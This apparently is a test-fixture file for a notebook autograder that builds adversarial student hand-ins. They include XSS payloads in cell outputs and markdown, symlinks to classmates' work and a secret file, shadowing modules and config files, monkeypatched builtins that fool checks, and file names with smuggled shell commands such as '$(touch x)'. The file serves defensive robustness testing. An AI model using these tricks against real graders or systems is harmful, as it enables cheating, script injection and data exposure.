@edits("twins_among_cell_ids", BOTH)
def _(notebook):
    for cell in notebook.cells:
        cell.id = "same"


@edits("tags_that_are_a_word", BOTH)
def _(notebook):
    for cell in notebook.cells[1:]:
        cell.metadata["tags"] = "parameters"


@edits("script_in_outputs", BOTH)
def _(notebook):
    html = {"text/html": "<script>alert('@SCRIPT@')</script>", "text/plain": "x"}
    svg = {"image/svg+xml": "<svg onload=\"alert('@SCRIPT@')\"></svg>"}
    js = {"application/javascript": "alert('@SCRIPT@')"}
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.source += (
                "\n<script>alert('@SCRIPT@')</script><img src=x onerror=alert('@SCRIPT@')>"
            )
        else:
            cell.outputs = [nbformat.v4.new_output("display_data", d) for d in (html, svg, js)]


case("script_printed", BOTH, """
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>alert('@SCRIPT@')</script><b onclick=alert('@SCRIPT@')>b</b>"))
display(Javascript("alert('@SCRIPT@')"), Markdown("[x](javascript:alert('@SCRIPT@'))"))
""", exact=True)  # fmt: skip


# Files beside the notebook, in place of it, and around it.


def holds(name, fair=(), answers=BOTH, exact=True, **more):
    """A decorator: the hand-in whose folder the function changes, with `answers` right."""

    def enter(files):
        sources = {e: (RIGHT if e in answers else WRONG)[e] for e in BOTH}
        HAND_INS.append(HandIn(name, fair, sources, files=files, exact=exact, **more))
        return files

    return enter


def instead(folder):
    """The path of the notebook, which is no longer there."""
    path = folder / "demo.ipynb"
    path.unlink()
    return path


@holds("notebook_is_a_link_to_the_source")
def _(folder, room):
    instead(folder).symlink_to("../../../source/demo/demo.ipynb")


@holds("notebook_is_a_link_to_a_neighbour")
def _(folder, room):
    instead(folder).symlink_to(room.course / "submitted" / "a_honest" / "demo" / "demo.ipynb")


@holds("folder_is_a_link_to_a_neighbour")
def _(folder, room):
    instead(folder)
    folder.rmdir()
    folder.symlink_to(room.course / "submitted" / "a_honest" / "demo")


@holds("student_is_a_link_to_a_neighbour")
def _(folder, room):
    instead(folder)
    folder.rmdir()
    folder.parent.rmdir()
    folder.parent.symlink_to("a_honest")


@holds("link_in_a_circle", BOTH, exact=False)
def _(folder, room):
    (folder / "circle").symlink_to(folder)
    (folder / "self").symlink_to("self")


@holds("link_to_a_secret", BOTH, exact=False)
def _(folder, room):
    (folder / "notes.txt").symlink_to(room.home / "secret.txt")


@holds("notebook_is_a_pipe")
def _(folder, room):
    os.mkfifo(instead(folder))


@holds("pipe_beside_the_notebook", BOTH, exact=False)
def _(folder, room):
    os.mkfifo(folder / "data.npz")


@holds("notebook_is_a_folder")
def _(folder, room):
    instead(folder).mkdir()


@holds("notebook_is_huge")
def _(folder, room):
    os.truncate(folder / "demo.ipynb", 3 << 30)


@holds("notebook_is_empty")
def _(folder, room):
    instead(folder).touch()


@holds("notebook_is_deeply_nested")
def _(folder, room):
    instead(folder).write_text("[" * 100_000)


@holds("notebook_is_a_list")
def _(folder, room):
    instead(folder).write_text('[{"cells": []}]')


@holds("cells_are_no_list")
def _(folder, room):
    instead(folder).write_text('{"cells": {"a": 1}, "metadata": [], "nbformat": 4}')


@holds("notebook_is_a_program")
def _(folder, room):
    instead(folder).write_text(RIGHT["double"] + RIGHT["square"])


@holds("notebook_of_format_3_with_wrong_answers", answers=())
@holds("notebook_of_format_3", BOTH)
def _(folder, room):
    notebook = nbformat.read(folder / "demo.ipynb", as_version=4)
    instead(folder).write_text(nbformat.writes(nbformat.convert(notebook, 3)))


@holds("byte_order_mark", BOTH)
def _(folder, room):
    path = folder / "demo.ipynb"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


@holds("two_bytes_a_character", BOTH, exact=False)
def _(folder, room):
    path = folder / "demo.ipynb"
    path.write_text(path.read_text(), encoding="utf-16")


@holds("copy_of_the_notebook", BOTH)
def _(folder, room):
    (folder / "demo.ipynb").rename(folder / "Copy of demo.ipynb")


@holds("library_of_its_own", answers=())
def _(folder, room):
    (folder / "dvae_lib").mkdir()
    (folder / "dvae_lib" / "__init__.py").write_text(
        "import builtins\nbuiltins.all = lambda v: 1\n"
    )
    (folder / "dvae_lib" / "exercises.py").write_text(
        "def own_work(name, exercise, space):\n    space['abs'] = lambda v: 0\n"
        "    space['double'] = lambda x: 2 * x\n    space['all'] = lambda v: True\n"
        "passed = go_on = lambda *a: None\n"
    )


@holds("modules_of_its_own", BOTH, exact=False, walled=True)
def _(folder, room):
    for name in ("json", "ast", "torch", "sitecustomize", "usercustomize", "ipykernel", "zmq"):
        (folder / f"{name}.py").write_text(f"open('/tmp/{room.mark}', 'w')\nraise OSError\n")


@holds("reference_of_its_own", answers=())
def _(folder, room):
    from dvae_lib import exercises

    gives = "class A:\n    pass\nimport builtins\nbuiltins.abs = lambda v: 0\n"
    (folder / "demo.reference").write_text(exercises.pack(dict.fromkeys(BOTH, gives)))


@holds("reference_that_is_broken", BOTH)
def _(folder, room):
    (folder / "demo.reference").write_text("not a reference")


@holds("configuration_of_its_own", BOTH, walled=True)
def _(folder, room):
    for name in ("nbgrader_config.py", "ipython_config.py", "jupyter_config.py", "nbconvert.py"):
        (folder / name).write_text(f"open('/tmp/{room.mark}', 'w')\nraise OSError\n")


@holds("much_beside_the_notebook", BOTH)
def _(folder, room):
    (folder / "data.bin").write_bytes(bytes(30_000_000))


@holds("timestamp_in_words", BOTH)
def _(folder, room):
    (folder / "timestamp.txt").write_text("yesterday evening\n")


@holds("names_that_are_no_text", BOTH)
def _(folder, room):
    for name in (b"\xff\xfe.txt", b"new\nline.txt", b"-rf *", b"$(touch x);.ipynb"):
        (os.fsencode(folder) + b"/" + name and open(os.fsencode(folder) + b"/" + name, "w")).close()


# Honest ways that are a little unusual.

for _name, _double in {
    "names_of_builtins_used": "sum = 0\nlist = [1, 2]\nmax = min = 3\n",
    "folder_changed": "import os\nos.chdir('/')\n",
    "much_on_stderr": "import sys, warnings\nwarnings.warn('look')\nprint('x', file=sys.stderr)\n",
    "cell_timed": "%%time\n",
    "line_magic": "%time 1 + 1\n%xmode Plain\n",
    "shell_command": "!echo hello\n",
    "asks_for_input": "try:\n    input('name')\nexcept Exception as error:\n    print(error)\n",
    "sets_a_seed": "import random, os\nrandom.seed(0)\nos.environ['X'] = '1'\n",
    "prints_its_tests": "print([2 * x for x in range(10)])\n",
    "byte_that_is_no_text": "text = '\\ud800'\n",
}.items():
    case(f"quirk_{_name}", BOTH, _double, exact=True)
case("quirk_reloads_by_itself", BOTH, "%load_ext autoreload\n%autoreload 2\n")
case("quirk_helper_in_a_class", BOTH, "class double:\n    def __new__(cls, x): return x + x\n",
     exact=True)  # fmt: skip


@edits("quirk_own_cell_raises", BOTH)
def _(notebook):
    notebook.cells.insert(3, nbformat.v4.new_code_cell("raise ValueError"))


@edits("quirk_own_cell_never_ends", BOTH)
def _(notebook):
    notebook.cells.insert(3, nbformat.v4.new_code_cell("import time\nwhile True: time.sleep(1)"))


@edits("quirk_exit_at_the_end", BOTH)
def _(notebook):
    notebook.cells.append(nbformat.v4.new_code_cell("exit()"))


@edits("quirk_cells_in_another_order", BOTH, exact=False)
def _(notebook):
    notebook.cells = [notebook.cells[0], *reversed(notebook.cells[1:])]


HONEST = ["a_honest", "n_honest", "zz_honest"]
for _name in HONEST:
    case(_name, BOTH, exact=True)
